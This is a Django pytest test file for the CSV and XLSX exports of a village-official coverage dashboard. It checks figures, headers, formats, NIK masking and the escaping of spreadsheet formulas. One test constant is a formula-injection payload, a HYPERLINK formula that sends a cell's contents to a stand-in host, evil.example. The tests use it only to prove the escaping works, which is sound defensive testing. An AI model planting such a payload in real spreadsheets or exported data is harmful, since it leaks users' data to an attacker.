"""CSV and XLSX exports: exactly the figures of the page, headers in the active language,
numbers as numbers, and text that a spreadsheet would run as a formula escaped.

Data: Kec. Jatilawang (33.02.03) as in test_views.py, as of 22/11/2026.
"""

import csv
import datetime as dt
import io

import pytest
from django.contrib.auth.models import Permission
from django.utils import translation
from openpyxl import load_workbook

from enrollment import exports
from enrollment.exports import escape_cell
from enrollment.selectors import coverage_for_area
from tests.factories import PersonFactory, PostFactory
from villages.models import Village
from villages.selectors import area_get

Q = "?as_of=2026-11-22"
AS_OF = dt.date(2026, 11, 22)
KARANGLEWAS = "33.02.03.2003"
GUNUNGWETAN = "33.02.03.2001"
FIGURE_HEADERS = ["Posts", "Covered", "Coverage (%)", "Lapsing soon", "In arrears", "Ended"]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


def read_csv(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads UTF-8
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_xlsx(response) -> list[tuple]:
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    sheet = load_workbook(io.BytesIO(response.content)).active
    return list(sheet.iter_rows(values_only=True))


def as_csv(value) -> str:
    return "" if value is None else str(value)


# --- Formula escaping ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        (EVIL, "'" + EVIL),
        ("+62 812 3456 7890", "'+62 812 3456 7890"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\x01=1+1", "'=1+1"),  # a control character cannot hide a formula
        ("Sutrisno", "Sutrisno"),
        ("RT 003 / RW 001", "RT 003 / RW 001"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (18.94, 18.94),
        (None, None),
        (dt.date(2026, 11, 22), dt.date(2026, 11, 22)),
    ],
)
def test_escape_cell(value, expected):
    assert escape_cell(value) == expected


def test_a_formula_in_a_village_name_is_escaped_in_csv_and_xlsx(staff_client, district):
    Village.objects.filter(code=GUNUNGWETAN).update(name=EVIL)
    url = "/wilayah/33.02.03/ekspor/children"
    [row] = [r for r in read_csv(staff_client.get(url + ".csv" + Q)) if r[0] == GUNUNGWETAN]
    assert row[1] == "'" + EVIL
    response = staff_client.get(url + ".xlsx" + Q)
    sheet = load_workbook(io.BytesIO(response.content)).active
    [cell] = [r[1] for r in sheet.iter_rows(min_row=2) if r[0].value == GUNUNGWETAN]
    assert cell.value == "'" + EVIL
    assert cell.data_type == "s"  # text, not a formula


def test_formulas_in_person_names_and_units_are_escaped(staff_client, district):
    PostFactory(
        code="KETUA_RT",
        unit="@RT 001",
        village_id=KARANGLEWAS,
        person=PersonFactory(name="+62 812 3456 7890"),
    )
    PostFactory(code="KASI", village_id=KARANGLEWAS, person=PersonFactory(name=EVIL))
    url = f"/desa/{KARANGLEWAS}/ekspor/roster"
    rows = read_csv(staff_client.get(url + ".csv" + Q))
    names = {row[3]: row for row in rows[1:]}
    assert "'+62 812 3456 7890" in names
    assert names["'+62 812 3456 7890"][2] == "'@RT 001"
    assert "'" + EVIL in names
    sheet = load_workbook(io.BytesIO(staff_client.get(url + ".xlsx" + Q).content)).active
    cells = [row[3] for row in sheet.iter_rows(min_row=2)]
    assert {c.value for c in cells} >= {"'+62 812 3456 7890", "'" + EVIL}
    assert {c.data_type for c in cells} == {"s"}


# --- Exactly the figures of the page -------------------------------------------------------


def test_the_children_export_holds_the_children_table(staff_client, district):
    coverage = staff_client.get("/wilayah/33.02.03/" + Q).context["coverage"]
    expected = [
        [
            row.area.code,
            row.area.name,
            row.figures.posts,
            row.figures.covered,
            row.figures.coverage_pct,
            row.figures.lapsing_soon,
            row.figures.in_arrears,
            row.figures.ended,
            row.area.villages,
            row.candidates,
            row.villages_enrolled,
            row.villages_enrolled_pct,
            row.villages_officials_covered,
        ]
        for row in coverage.children
    ]
    totals = coverage.totals
    # Two of the 11 villages enrolled (18.18 %), one with every official covered.
    footer = ["", "Total", 6, 4, 66.67, 1, 1, 0, None, 1, 2, 18.18, 1]
    assert [
        totals.posts,
        totals.covered,
        totals.coverage_pct,
        totals.lapsing_soon,
        totals.in_arrears,
        totals.ended,
    ] == footer[2:8]
    header = [
        "Code",
        "Village",
        *FIGURE_HEADERS,
        "Villages",
        "Desa Sadar candidates",
        "Villages enrolled",
        "Villages enrolled (%)",
        "Villages with every official covered",
    ]

    rows = read_csv(staff_client.get("/wilayah/33.02.03/ekspor/children.csv" + Q))
    assert rows[0] == header
    assert rows[1:] == [[as_csv(v) for v in row] for row in [*expected, footer]]
    gunungwetan = [GUNUNGWETAN, "Gunung Wetan", "2", "2", "100.0", "0", "0", "0", "1", "1"]
    assert [*gunungwetan, "1", "100.0", "1"] in rows
    pekuncen = ["33.02.03.2002", "Pekuncen", "0", "0", "", "0", "0", "0", "1", "0"]
    assert [*pekuncen, "0", "0.0", "0"] in rows

    rows = read_xlsx(staff_client.get("/wilayah/33.02.03/ekspor/children.xlsx" + Q))
    assert list(rows[0]) == header
    assert [list(row) for row in rows[1:]] == [*expected, [None, *footer[1:]]]
    karanglewas = next(row for row in rows if row[0] == KARANGLEWAS)
    assert karanglewas[2:8] == (4, 2, 50.0, 1, 1, 0)
    assert all(isinstance(v, int) for v in karanglewas[2:4])


def test_the_country_children_export_lists_provinces(staff_client, district):
    rows = read_csv(staff_client.get("/ekspor/children.csv" + Q))
    assert rows[0][:2] == ["Code", "Province"]
    assert [row[0] for row in rows[1:-1]] == ["33", "35", "36"]
    assert rows[1][2:8] == ["6", "4", "66.67", "1", "1", "0"]


def test_the_categories_export_holds_every_category_and_the_total(staff_client, district):
    coverage = staff_client.get("/wilayah/33.02/" + Q).context["coverage"]
    rows = read_xlsx(staff_client.get("/wilayah/33.02/ekspor/categories.xlsx" + Q))
    assert list(rows[0]) == ["Category", *FIGURE_HEADERS]
    assert [row[1:] for row in rows[1:-1]] == [
        (f.posts, f.covered, f.coverage_pct, f.lapsing_soon, f.in_arrears, f.ended)
        for _category, f in coverage.by_category
    ]
    assert rows[1:] == [
        ("Village officials (perangkat desa)", 4, 3, 75.0, 1, 0, 0),
        ("Village consultative body (BPD)", 1, 0, 0.0, 0, 1, 0),
        ("RT/RW officials", 0, 0, None, 0, 0, 0),
        ("Village community institutions (LKD)", 1, 1, 100.0, 0, 0, 0),
        ("Civil defence (Satlinmas)", 0, 0, None, 0, 0, 0),
        ("Other", 0, 0, None, 0, 0, 0),
        ("Total", 6, 4, 66.67, 1, 1, 0),
    ]


def test_the_candidates_export_holds_the_desa_sadar_list(staff_client, district):
    from enrollment.models import Declaration

    Declaration.objects.create(
        village_id=GUNUNGWETAN, declared_on=dt.date(2025, 6, 1), declared_by="Kepala KC"
    )
    page = staff_client.get("/wilayah/33.02/desa-sadar/" + Q)
    shown = [r.standing.code for r in page.context["list"].page.object_list]
    assert shown == [GUNUNGWETAN, KARANGLEWAS]
    rows = read_xlsx(staff_client.get("/wilayah/33.02/ekspor/candidates.xlsx" + Q))
    assert rows == [
        (
            "Code",
            "Village",
            "District",
            "Status",
            "Officials still to cover",
            "Number of criteria not passed",
            "Criteria not passed",
            "Detail",
            "Posts",
            "Covered",
            "Coverage (%)",
            "Declared on",
        ),
        (
            GUNUNGWETAN,
            "Gunung Wetan",
            "Jatilawang",
            "Candidate",
            0,
            0,
            None,
            None,
            2,
            2,
            100,
            dt.datetime(2025, 6, 1),
        ),
        (
            KARANGLEWAS,
            "Karanglewas",
            "Jatilawang",
            "Near",
            1,
            1,
            "All village officials covered",
            "2 of 3 covered",
            4,
            2,
            50,
            None,
        ),
    ]
    rows = read_csv(staff_client.get("/wilayah/33.02.03/ekspor/candidates.csv" + Q))
    assert rows[1] == [
        GUNUNGWETAN,
        "Gunung Wetan",
        "Jatilawang",
        "Candidate",
        "0",
        "0",
        "",
        "",
        "2",
        "2",
        "100.0",
        "2025-06-01",
    ]


def test_the_roster_export_holds_the_roster_with_masked_nik(staff_client, staff, district):
    page = staff_client.get(f"/desa/{KARANGLEWAS}/" + Q)
    roster = page.context["coverage"].roster
    url = f"/desa/{KARANGLEWAS}/ekspor/roster"
    rows = read_xlsx(staff_client.get(url + ".xlsx" + Q))
    assert rows[0] == (
        "Category",
        "Post",
        "Unit",
        "Name",
        "NIK",
        "JKK",
        "JKM",
        "JHT",
        "JP",
        "JKP",
        "Paid until",
        "Status",
        "Missing",
    )
    assert [(row[3], row[4]) for row in rows[1:]] == [(r.name, r.nik) for r in roster]
    nik = district["sekdes"].person.nik
    sekdes = next(row for row in rows if row[3] == "Sri Hartuti")
    assert sekdes == (
        "Village officials (perangkat desa)",
        "Village secretary (Sekretaris Desa)",
        None,
        "Sri Hartuti",
        f"{nik[:6]}******{nik[12:]}",
        "active",
        "none",
        "none",
        "none",
        "none",
        dt.datetime(2026, 12, 31),  # JKK's paid-until; JKM is missing
        "Not covered",
        "no JKM",
    )
    romini = next(row for row in rows if row[3] == "Romini")
    assert romini[5:7] == ("in arrears", "in arrears")
    assert romini[10:] == (dt.datetime(2026, 10, 31), "In arrears", "paid until 31/10/2026")
    sutrisno = read_csv(staff_client.get(url + ".csv" + Q))[3]
    assert sutrisno[3] == "Sutrisno"
    assert sutrisno[10:] == ["2026-12-10", "Covered, lapsing soon", ""]

    staff.user_permissions.add(Permission.objects.get(codename="view_full_nik"))
    rows = read_csv(staff_client.get(url + ".csv" + Q))
    assert nik in [row[4] for row in rows]


def test_numbers_and_dates_carry_spreadsheet_formats(staff_client, district):
    response = staff_client.get("/wilayah/33.02.03/ekspor/children.xlsx" + Q)
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.freeze_panes == "A2"
    assert sheet["C2"].number_format == "#,##0"
    assert sheet["E2"].number_format == "0.00"
    assert sheet["A1"].font.bold is True
    response = staff_client.get(f"/desa/{KARANGLEWAS}/ekspor/roster.xlsx" + Q)
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["K2"].number_format == "DD/MM/YYYY"


# --- Files ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url,filename",
    [
        ("/wilayah/33.02/ekspor/children.xlsx", "cakupan-33.02-children-2026-11-22.xlsx"),
        ("/wilayah/33/ekspor/categories.csv", "cakupan-33-categories-2026-11-22.csv"),
        ("/ekspor/candidates.xlsx", "cakupan-indonesia-candidates-2026-11-22.xlsx"),
        (f"/desa/{KARANGLEWAS}/ekspor/roster.csv", f"cakupan-{KARANGLEWAS}-roster-2026-11-22.csv"),
    ],
)
def test_exports_are_attachments_named_after_area_table_and_day(
    staff_client, district, settings, url, filename
):
    # The test database's country (three provinces) would be a background job by default.
    settings.EXPORT_JOB_MIN_VILLAGES = 100_000
    response = staff_client.get(url + Q)
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'


def test_headers_follow_the_active_language(district):
    coverage = coverage_for_area(area=area_get(code="33.02"), as_of=AS_OF)
    with translation.override("en"):
        assert exports.categories_table(coverage).columns[1].header == "Posts"
    with translation.override("id"):
        header = exports.categories_table(coverage).columns[0].header
    with translation.override("id"):
        assert header == str(translation.gettext("Category"))


def test_the_page_links_to_its_exports(staff_client, district):
    page = staff_client.get("/wilayah/33.02/" + Q).content.decode()
    for table in ("categories", "children"):
        for fmt in ("csv", "xlsx"):
            assert f'href="/wilayah/33.02/ekspor/{table}.{fmt}{Q}"' in page
    page = staff_client.get("/wilayah/33.02/desa-sadar/" + Q).content.decode()
    for fmt in ("csv", "xlsx"):
        assert f'href="/wilayah/33.02/ekspor/candidates.{fmt}{Q}"' in page
    page = staff_client.get(f"/desa/{KARANGLEWAS}/" + Q).content.decode()
    assert f'href="/desa/{KARANGLEWAS}/ekspor/roster.xlsx{Q}"' in page
